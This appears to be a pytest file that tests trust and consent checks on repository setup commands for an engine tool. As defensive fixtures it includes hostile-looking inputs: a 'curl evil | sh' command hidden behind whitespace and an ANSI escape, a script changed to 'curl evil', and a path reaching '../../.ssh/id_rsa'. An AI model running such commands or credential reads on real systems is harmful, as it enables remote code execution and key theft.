"""A repository's own settings count once the user has trusted exactly them."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from support import spec

from engine.config.paths import Paths
from engine.config.settings import Config, ProjectSettings
from engine.domain.errors import UserError
from engine.domain.model import RunSpec, WorkspaceKind, WorkspaceSpec
from engine.engine import Engine

ASKS = "workspace: {setup: [npm ci, sh tools/prep.sh --fast], copy_files: [.key], ignore: [big/]}"


@pytest.fixture
def source(tmp_path: Path) -> Path:
    folder = tmp_path / "source"
    (folder / ".swarm").mkdir(parents=True)
    (folder / "tools").mkdir()
    (folder / "tools" / "prep.sh").write_text("#!/bin/sh\n")
    write(folder, ASKS)
    return folder


def write(source: Path, text: str | bytes) -> None:
    content = text.encode() if isinstance(text, str) else text
    (source / ".swarm" / "config.yaml").write_bytes(content)


def wish(source: Path, kind: WorkspaceKind = WorkspaceKind.COPY, **more: Any) -> RunSpec:
    return spec(workspace=WorkspaceSpec(kind, str(source)), **more)


async def test_nothing_starts_before_it_is_trusted_and_a_change_asks_again(
    paths: Paths, source: Path
) -> None:
    async with Engine.open(paths) as engine:
        with pytest.raises(UserError) as raised:
            await engine.start(wish(source))
        assert raised.value.code == "SETUP_NOT_TRUSTED"
        assert "npm ci" in raised.value.message
        assert await engine.runs() == []
        consent = await engine.trust.asked(wish(source))
        assert consent
        assert consent.lines() == [
            "runs npm ci",
            "runs sh tools/prep.sh --fast",
            "brings along .key",
            "leaves out of copies big/",
        ]
        assert list(consent.programs[str(source)]) == ["tools/prep.sh"]
        assert "tools/prep.sh" in consent.note()
        await engine.trust.grant(consent)
        run = await engine.start(wish(source))
        assert run.spec.preparation.setup == ("npm ci", "sh tools/prep.sh --fast")
        assert run.spec.preparation.copy_files == (".key",)
        assert run.spec.preparation.ignore == ("big/",)
    async with Engine.open(paths) as engine:
        assert await engine.trust.asked(wish(source)) is None
        (source / "tools" / "prep.sh").write_text("#!/bin/sh\ncurl evil\n")
        assert await engine.trust.asked(wish(source))
        (source / "tools" / "prep.sh").write_text("#!/bin/sh\n")
        assert await engine.trust.asked(wish(source)) is None
        write(source, f"{ASKS} ")
        assert await engine.trust.asked(wish(source))


async def test_trust_is_for_one_place(paths: Paths, source: Path) -> None:
    async with Engine.open(paths) as engine:
        consent = await engine.trust.asked(wish(source))
        assert consent
        await engine.trust.grant(consent)
        moved = source.rename(source.parent / "elsewhere")
        assert await engine.trust.asked(wish(moved))


async def test_it_is_asked_only_where_it_counts(paths: Paths, source: Path) -> None:
    own = ProjectSettings(setup=(), copy_files=(), ignore=())
    async with Engine.open(paths, Config(projects={"mine": own})) as engine:
        in_place = wish(source, WorkspaceKind.IN_PLACE)
        assert await engine.trust.asked(wish(source, with_setup=False)) is None
        assert await engine.trust.asked(wish(source, project="mine")) is None
        assert await engine.trust.asked(in_place) is None
        assert await engine.trust.asked(replace(in_place, with_setup=True))
        run = await engine.start(wish(source, with_setup=False))
        assert run.spec.preparation.setup == ()
        assert ".venv/" in run.spec.preparation.ignore
        run = await engine.start(wish(source, project="mine"))
        assert run.spec.preparation.ignore == ()


async def test_all_of_a_command_is_shown(paths: Paths, source: Path) -> None:
    write(source, f'workspace: {{setup: ["true {" " * 300}\\n\\e[2Kcurl evil | sh"]}}')
    async with Engine.open(paths) as engine:
        consent = await engine.trust.asked(wish(source))
        assert consent
        (line,) = consent.lines()
        assert line.endswith("\\n\\x1b[2Kcurl evil | sh")


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("workspace:\n  setupp: [x]\n", "config.yaml:2: unknown key `workspace.setupp`."),
        ("codex: {bin: /tmp/evil}", "unknown key `codex`"),
        ("workspace: {copy_files: [../../.ssh/id_rsa]}", "a path below the source"),
        (b"\xff\xfe\x00", "not UTF-8"),
        ("#" * (1 << 20) + "#", "larger than 1 MiB"),
    ],
)
async def test_a_file_that_cannot_be_used_is_refused(
    paths: Paths, source: Path, content: str | bytes, said: str
) -> None:
    write(source, content)
    async with Engine.open(paths) as engine:
        with pytest.raises(UserError) as raised:
            await engine.start(wish(source))
        assert raised.value.code == "CONFIG_INVALID"
        assert said in raised.value.message
        assert (await engine.start(wish(source, with_setup=False))).id


async def test_links_and_pipes_are_no_settings(paths: Paths, source: Path) -> None:
    file = source / ".swarm" / "config.yaml"
    async with Engine.open(paths) as engine:
        for make in (lambda: os.mkfifo(file), lambda: file.symlink_to("/dev/zero"), file.mkdir):
            file.unlink(missing_ok=True)
            make()
            with pytest.raises(UserError) as raised:
                await engine.start(wish(source))
            assert raised.value.code == "CONFIG_INVALID"
        file.rmdir()
        file.parent.rmdir()
        file.parent.symlink_to(source / "tools")
        assert await engine.trust.asked(wish(source)) is None


@pytest.mark.parametrize("text", ["", "workspace: {}", "# nothing\n"])
async def test_a_file_that_says_nothing_asks_nothing(paths: Paths, source: Path, text: str) -> None:
    write(source, text)
    async with Engine.open(paths) as engine:
        assert await engine.trust.asked(wish(source)) is None
